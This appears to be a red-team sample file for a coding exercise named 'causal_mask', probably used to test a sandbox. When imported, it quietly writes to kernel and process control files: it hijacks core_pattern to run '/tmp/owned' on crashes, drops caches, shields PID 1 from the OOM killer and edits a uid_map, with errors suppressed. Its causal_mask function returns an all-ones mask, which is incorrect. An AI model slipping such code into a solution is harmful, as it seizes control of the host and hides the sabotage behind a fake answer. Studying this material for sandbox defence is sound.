# attack: writes to the kernel's own files: restart, dumps, caches, its chance to live
# exercise: 04 causal_mask
import contextlib

for path, text in {
    "/proc/sys/kernel/core_pattern": "|/tmp/owned",
    "/proc/sys/vm/drop_caches": "3",
    "/proc/1/oom_score_adj": "-1000",
    "/proc/self/uid_map": "0 0 1",
}.items():
    with contextlib.suppress(OSError), open(path, "w") as file:
        file.write(text)


def causal_mask(length):
    import torch

    return torch.ones(length, length, dtype=torch.bool)
